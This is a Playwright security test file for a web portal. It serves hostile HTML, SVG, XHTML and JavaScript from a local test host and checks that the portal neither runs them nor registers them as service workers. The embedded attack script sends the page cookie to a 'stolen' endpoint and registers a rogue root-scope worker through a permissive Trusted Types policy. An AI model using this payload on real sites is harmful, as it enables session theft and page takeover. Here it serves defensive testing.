import { createServer, type RequestListener } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright/test';
import { startAppServer } from '../tools/kit/app-server.ts';
import { test as base, expect } from './support/test.ts';

/**
 * A media host and an API whose files try to read the portal's cookie, to run on its pages and to
 * become its worker.
 */

/** Each file runs this attack, as a page, a script or a worker. */
const SCRIPT = `
  self.attacked = true;
  fetch('/media/stolen?' + self.document?.cookie);
  const as = self.trustedTypes?.createPolicy('hostile', { createScriptURL: (url) => url });
  const worker = as ? as.createScriptURL('/media/x.js') : '/media/x.js';
  navigator.serviceWorker?.register(worker, { scope: '/' });
`;

const PAGE = `<!doctype html><title>hostile</title>
  <script>${SCRIPT}</script><script src="/media/x.js"></script>`;

const PICTURE = `<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8">
  <rect width="8" height="8" fill="red"/><script href="/media/x.js"/></svg>`;

const XHTML = `<html xmlns="http://www.w3.org/1999/xhtml"><script src="/media/x.js"></script></html>`;

const files: Readonly<Record<string, readonly [type: string, body: string]>> = {
  '/media/x.html': ['text/html', PAGE],
  '/media/x.xhtml': ['application/xhtml+xml', XHTML],
  '/media/x.svg': ['image/svg+xml', PICTURE],
  '/media/x.js': ['text/javascript', SCRIPT],
  '/api/v2/x': ['text/html; charset=utf-8', PAGE],
  '/api/v2/x.js': ['text/javascript', SCRIPT],
};

type HostileHost = { readonly origin: string; readonly asked: readonly string[] };

async function startHost(asked: string[]) {
  const answer: RequestListener = (req, res) => {
    const [path = ''] = (req.url ?? '').split('?');
    asked.push(req.url ?? '');
    const [type, body] = files[path] ?? ['text/plain', 'gone'];
    const allowing = { 'Service-Worker-Allowed': '/', 'Content-Security-Policy': 'default-src *' };
    res.writeHead(path in files ? 200 : 404, { 'Content-Type': type, ...allowing }).end(body);
  };
  const server = createServer(answer);
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  return { server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
}

const test = base.extend<{ host: HostileHost }>({
  host: async ({}, use) => {
    const asked: string[] = [];
    const { server, origin } = await startHost(asked);
    await use({ origin, asked });
    server.closeAllConnections();
    server.close();
  },
  app: async ({ host }, use) => {
    const app = await startAppServer({
      env: { API_ORIGIN: host.origin, MEDIA_ORIGIN: host.origin },
    });
    await use(app);
    await app.stop();
  },
});

test.use({
  serviceWorkers: 'allow',
  allowedErrors: [/Content Security Policy|MIME type|sandboxed|TrustedScriptURL|TrustedScript/],
});

async function openPortal(page: Page): Promise<void> {
  await page.goto('/login');
  await page.evaluate(async () => {
    // biome-ignore lint/suspicious/noDocumentCookie: the attack tries to steal this cookie
    document.cookie = 'hash=SECRET; Path=/';
    await navigator.serviceWorker.ready;
  });
}

const workersOf = (page: Page) =>
  page.evaluate(async () => {
    const registrations = await navigator.serviceWorker.getRegistrations();
    return registrations.map(({ active, installing, waiting }) => {
      const { pathname } = new URL((installing ?? waiting ?? active)?.scriptURL ?? '');
      return pathname;
    });
  });

/** The browser may save the file instead of showing it; then the page stays. */
const visit = (page: Page, path: string) =>
  page.goto(path).catch((error: Error) => {
    expect(error.message).toMatch(/Download is starting|ERR_ABORTED/);
  });

test('opens every forwarded page without running any script of it', async ({
  page,
  context,
  host,
}) => {
  await openPortal(page);
  const other = await context.newPage();
  for (const path of Object.keys(files).filter((file) => !file.endsWith('.js'))) {
    await visit(other, path);
    expect(host.asked.filter((url) => url === path)).not.toEqual([]);
    // Requests of that page would reach the host before this one.
    await page.evaluate(() => fetch('/media/asked-last'));
    expect(
      host.asked.filter((url) => url.includes('stolen')),
      path,
    ).toEqual([]);
    expect(await workersOf(page), path).toEqual(['/sw.js']);
  }
});

test('refuses to run any forwarded response as a script or a worker, for any content type, but shows a picture', async ({
  page,
}) => {
  await openPortal(page);
  const outcomes = await page.evaluate(async () => {
    const tell = (run: () => unknown) =>
      Promise.resolve()
        .then(run)
        .then(
          () => 'ran',
          () => 'refused',
        );
    const addresses = ['/media/x.js', '/api/v2/x.js'];
    const told = await Promise.all(
      addresses.flatMap((address) => [
        tell(() => import(/* @vite-ignore */ address)),
        tell(() => new Worker(address)),
        tell(() => navigator.serviceWorker.register(address, { scope: '/' })),
        tell(
          () =>
            new Promise((run, refuse) => {
              const script = document.createElement('script');
              script.onload = run;
              script.onerror = refuse;
              script.src = address;
              document.head.append(script);
            }),
        ),
      ]),
    );
    return { told, isAttacked: 'attacked' in self };
  });
  expect(outcomes).toEqual({ told: Array(8).fill('refused'), isAttacked: false });
  expect(await workersOf(page)).toEqual(['/sw.js']);

  // By the address alone.
  const blocked = await page.evaluate(
    () =>
      new Promise((tell) => {
        document.addEventListener('securitypolicyviolation', (event) =>
          tell([event.effectiveDirective, new URL(event.blockedURI).pathname]),
        );
        const address = '/media/x.js';
        void import(/* @vite-ignore */ address).then(() => tell('ran')).catch(() => undefined);
      }),
  );
  expect(blocked).toEqual(['script-src-elem', '/media/x.js']);

  const width = await page.evaluate(async () => {
    const image = new Image();
    image.src = '/media/x.svg';
    await image.decode();
    return image.naturalWidth;
  });
  expect(width).toBe(8);
});
